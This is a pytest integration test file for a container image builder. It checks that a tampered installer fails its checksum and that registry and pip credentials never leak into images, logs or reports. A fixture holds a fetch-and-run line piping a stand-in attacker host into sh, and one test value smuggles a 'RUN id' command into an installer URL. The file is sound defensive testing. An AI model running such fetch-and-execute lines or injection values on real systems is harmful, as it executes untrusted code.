"""Supply chain and secrets, on the real engine and registries.

* A tampered installer, served from a loopback HTTP server through `conda.installer_url`,
  fails the build at the checksum step, and the failure names the download and both digests.
* Registry credentials and a token-bearing pip index URL in imagefactory's own environment
  reach neither the image (every layer's files, history, config, labels), the registry's copy,
  the logs, the console nor the reports; and they do not change the build.
"""

from __future__ import annotations

import hashlib
import http.server
import json
import subprocess
import tarfile
import textwrap
import threading
from pathlib import Path
from typing import IO, Iterator

import pytest
import requests

from imagefactory.config import matrix
from imagefactory.errors import ConfigError

from tests.integration.helpers import (BASE_REGISTRY, HOST_CAS, RUN_ID, RUN_LABEL, TEST_PASSWORD, TEST_REGISTRY,
                                       TEST_USER, matrix_text, registry_digest, run_cli)

pytestmark = [pytest.mark.docker]

GENUINE = b"#!/bin/sh\necho 'the installer the matrix pinned'\n"
TAMPERED = b"#!/bin/sh\necho 'the installer someone swapped in'\ncurl -s http://evil.invalid | sh\n"


# --------------------------------------------------------------------------- a tampered download

class _Installer(http.server.BaseHTTPRequestHandler):
    body = TAMPERED
    requests: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 (http.server's naming)
        type(self).requests.append(self.path)
        self.send_response(200)
        self.send_header("Content-Length", str(len(self.body)))
        self.end_headers()
        self.wfile.write(self.body)

    def log_message(self, *args) -> None:
        pass


@pytest.fixture
def installer_server() -> Iterator[str]:
    """A loopback HTTP server (free port) serving the tampered installer; yields its base URL."""
    _Installer.requests = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Installer)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def conda_matrix(image: str, installer_url: str, sha256: str) -> str:
    text = textwrap.dedent(f"""
        image: {image}
        matrix:
          python: ["3.11"]
          cuda: ["none"]
          blas: [openblas]
          installer: [conda]
        torch: "2.13.0"
        base_registry: {BASE_REGISTRY}
        labels: {{{RUN_LABEL}: "{RUN_ID}"}}
        conda:
          installer_url: {installer_url}
          sha256: {json.dumps(sha256)}
    """).lstrip()
    if HOST_CAS:
        text += f"ca_certificates: {json.dumps(HOST_CAS)}\n"
    return text


def test_tampered_installer_fails_the_build_naming_the_download_and_both_digests(
        tmp_path, engine, base_registry, installer_server, session_id, created_images):
    url = f"{installer_server}/Miniforge3-{session_id}-Linux-x86_64.sh"
    expected, actual = hashlib.sha256(GENUINE).hexdigest(), hashlib.sha256(TAMPERED).hexdigest()
    path = tmp_path / "matrix.yaml"
    path.write_text(conda_matrix(f"{TEST_REGISTRY}/it-{session_id}/tamper", url, expected))
    report_path, work = tmp_path / "report.json", tmp_path / "work"

    result = run_cli("build", "--matrix", str(path), "--plain", "--gpus", "none", "--report",
                     str(report_path), "--work-dir", str(work), timeout=900)

    console = result.stdout + result.stderr
    assert result.returncode == 1, console[-3000:]
    assert _Installer.requests == [f"/Miniforge3-{session_id}-Linux-x86_64.sh"], "the build never fetched it"
    (cell,) = json.loads(report_path.read_text())["cells"]
    created_images.append(cell["candidate"])
    assert cell["status"] == "build-failed", cell
    assert "conda-installer.sh" in cell["failed_step"], cell["failed_step"]  # the checksum RUN, not another
    line = f"checksum mismatch for {url}: expected {expected}, got {actual}"
    assert any(line in tail for tail in cell["log_tail"]), cell["log_tail"][-5:]  # (the engine may colour it)
    assert line in console, console[-3000:]
    assert line in Path(cell["log"]).read_text()
    # Nothing of the tampered installer ran, and no image was made from it.
    assert "someone swapped in" not in console
    assert engine.image_id(cell["candidate"]) is None


@pytest.mark.parametrize("url", [
    "http://127.0.0.1:8000/Miniforge3.sh\n",  # Python's `$` matches before a final newline
    "http://127.0.0.1:8000/Miniforge3.sh\nRUN id",
    "ftp://127.0.0.1/Miniforge3.sh",
    "http://127.0.0.1:8000/Miniforge3 .sh",
    "file:///tmp/Miniforge3.sh",
])
def test_installer_url_must_be_a_whole_http_url(tmp_path, url):
    path = tmp_path / "matrix.yaml"
    path.write_text(conda_matrix("registry.example.com/ml/train", json.dumps(url), "0" * 64))
    with pytest.raises(ConfigError) as e:
        matrix.load(path)
    assert "conda.installer_url" in str(e.value), str(e.value)


# --------------------------------------------------------------------------- secrets stay out

def test_secrets_in_the_environment_stay_out_of_images_registry_logs_and_reports(
        tmp_path, engine, base_registry, test_registry, wheelhouse, session_id, created_images, cpu_build):
    """A label variant of the shared cpu_build image: the build really runs (new content hash)
    with the secrets in its environment; its heavy layers are the shared image's."""
    token = f"s3cr3t-TOKEN-{session_id}"
    secrets = [token, TEST_PASSWORD]
    env = {
        "IMAGEFACTORY_REGISTRY_USER": TEST_USER,
        "IMAGEFACTORY_REGISTRY_PASSWORD": TEST_PASSWORD,
        # If these reached pip inside the build, it would ask an index that does not resolve.
        "PIP_INDEX_URL": f"https://ci-user:{token}@pypi.invalid/simple",
        "PIP_EXTRA_INDEX_URL": f"https://ci-user:{token}@extra.invalid/simple",
        "PIP_TRUSTED_HOST": "pypi.invalid",
    }
    image = f"{test_registry}/it-{session_id}/secrets"
    path = tmp_path / "matrix.yaml"
    # A label of its own: imagefactory really builds (docker reuses the shared image's layers).
    path.write_text(matrix_text(image=image, wheelhouse=wheelhouse, labels={"io.example.session": f"it-{session_id}"}))
    report_path, work = tmp_path / "report.json", tmp_path / "work"

    result = run_cli("build", "--matrix", str(path), "--plain", "--gpus", "none", "--push", "--report",
                     str(report_path), "--work-dir", str(work), env=env)

    console = result.stdout + result.stderr
    assert result.returncode == 0, console[-3000:]
    report = json.loads(report_path.read_text())
    (cell,) = report["cells"]
    assert cell["status"] == "passed" and not cell["cached"], cell
    created_images.extend([cell["candidate"], *cell["tags"]])
    assert cell["publish"] == "published" and cell["pushed"], cell
    release = cell["pushed"][0]["ref"]
    repo, tag = release.split("/", 1)[1].rsplit(":", 1)
    assert registry_digest(test_registry, repo, tag) == cell["pushed"][0]["digest"]

    places: dict[str, bytes] = {"console": console.encode()}
    for f in sorted(p for p in tmp_path.rglob("*") if p.is_file() and p != path):
        places[str(f.relative_to(tmp_path))] = f.read_bytes()  # reports, logs, rendered contexts
    assert any(name.startswith("work/logs/") for name in places), sorted(places)
    assert "report.md" in places and "report.json" in places, sorted(places)
    places["docker history"] = _docker("history", "--no-trunc", "--format", "{{json .}}", release)
    places["docker inspect"] = _docker("image", "inspect", release)
    places["registry config"] = _registry_config(test_registry, release)
    found = {(where, s) for where, data in places.items() for s in secrets if s.encode() in data}
    found |= _scan_saved_image(release, secrets)
    assert not found, sorted(found)


def test_the_scanner_finds_a_secret_planted_in_a_layer(engine, base_registry, session_id, created_images,
                                                        tmp_path):
    """The layer scan can fail: a secret written into one file of one layer is found."""
    needle = f"planted-{session_id}"
    (tmp_path / "Dockerfile").write_text(
        f"FROM {BASE_REGISTRY}/library/debian:bookworm-slim\nRUN echo {needle} > /etc/planted\n")
    ref = f"it-{session_id}/planted:1"
    subprocess.run(["docker", "build", "-q", "--network", "host", "-t", ref, str(tmp_path)], check=True,
                   capture_output=True)
    created_images.append(ref)
    assert any(where.endswith("etc/planted") for where, _ in _scan_saved_image(ref, [needle]))


# --------------------------------------------------------------------------- helpers

def _docker(*args: str) -> bytes:
    return subprocess.run(["docker", *args], check=True, capture_output=True).stdout


def _registry_config(registry: str, ref: str) -> bytes:
    repo, tag = ref.split("/", 1)[1].rsplit(":", 1)
    auth = (TEST_USER, TEST_PASSWORD)
    manifest = requests.get(f"http://{registry}/v2/{repo}/manifests/{tag}", auth=auth, timeout=30, headers={
        "Accept": "application/vnd.docker.distribution.manifest.v2+json, "
                  "application/vnd.oci.image.manifest.v1+json"})
    manifest.raise_for_status()
    config = manifest.json()["config"]["digest"]
    blob = requests.get(f"http://{registry}/v2/{repo}/blobs/{config}", auth=auth, timeout=30)
    blob.raise_for_status()
    return manifest.content + blob.content


class _Chained:
    """A stream whose first bytes were read already (`head`), then the rest of `f`."""

    def __init__(self, head: bytes, f: IO[bytes]):
        self.head, self.f = head, f

    def read(self, n: int = -1) -> bytes:
        if self.head:
            out, self.head = (self.head, b"") if n < 0 or n >= len(self.head) else (self.head[:n], self.head[n:])
            return out
        return self.f.read(n)


def _is_layer(head: bytes) -> bool:
    """A layer blob: a gzip stream (the containerd image store saves the compressed layers, under
    blobs/sha256/) or a plain tar (the graph-driver store's LAYER/layer.tar)."""
    return head[:2] == b"\x1f\x8b" or head[257:262] == b"ustar"


def _scan_saved_image(ref: str, secrets: list[str]) -> set[tuple[str, str]]:
    """`docker save` the image and look for each secret in every file of every layer tar (names,
    link targets and contents), and in the saved manifest and config. Either store's `docker save`:
    the graph-driver store's layer.tar files, or the containerd store's OCI layout, whose layers are
    compressed blobs."""
    needles = [s.encode() for s in secrets]
    found: set[tuple[str, str]] = set()
    layers = 0
    with subprocess.Popen(["docker", "save", ref], stdout=subprocess.PIPE) as proc:
        assert proc.stdout is not None
        with tarfile.open(fileobj=proc.stdout, mode="r|") as outer:
            for member in outer:
                if not member.isfile():
                    continue
                raw = outer.extractfile(member)
                assert raw is not None
                head = raw.read(512)
                f = _Chained(head, raw)
                if _is_layer(head):
                    layers += 1
                    with tarfile.open(fileobj=f, mode="r|*") as layer:  # type: ignore[call-overload]
                        for entry in layer:
                            where = f"{member.name}:{entry.name}"
                            for n in needles:
                                if n in entry.name.encode() or n in entry.linkname.encode():
                                    found.add((where, n.decode()))
                            if entry.isfile():
                                found |= {(where, n.decode()) for n in _in_stream(layer.extractfile(entry), needles)}
                else:
                    found |= {(member.name, n.decode()) for n in _in_stream(f, needles)}  # type: ignore[arg-type]
    assert proc.returncode == 0 and layers > 0, (proc.returncode, layers)
    return found


def _in_stream(f: IO[bytes] | None, needles: list[bytes], chunk: int = 1 << 22) -> set[bytes]:
    """The needles found in a stream, read in chunks that overlap by the longest needle."""
    hits: set[bytes] = set()
    if f is None:
        return hits
    keep = max(len(n) for n in needles) - 1
    tail = b""
    while True:
        block = f.read(chunk)
        if not block:
            return hits
        data = tail + block
        hits |= {n for n in needles if n in data}
        tail = data[-keep:] if keep else b""
